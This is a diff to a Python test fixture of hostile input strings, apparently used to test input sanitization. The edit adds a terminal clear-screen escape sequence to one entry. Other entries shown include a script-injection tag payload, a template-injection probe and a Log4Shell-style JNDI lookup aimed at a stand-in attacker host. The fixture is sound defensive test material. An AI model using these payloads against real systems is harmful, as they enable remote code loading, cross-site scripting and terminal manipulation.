@@ -135,7 +135,7 @@ HOSTILE: tuple[str, ...] = (
     "</textarea></script></style><script>document.title='owned'</script>",
     "nul \x00 bell \x07 escape \x1b[31m vertical \x0b",
     "not a character \ufffe \uffff and a bidi \u202e tab",
-    "_x0041_ escaped and \x7f deleted",
+    "_x0041_ escaped and \x7f deleted \x9b2J",
     "{{ 7*7 }} {% raw %} ${jndi:ldap://attacker.invalid}",
     "æøå ÆØÅ 東京 🚀 é",
     "long " + "ordlængde " * 4_000,
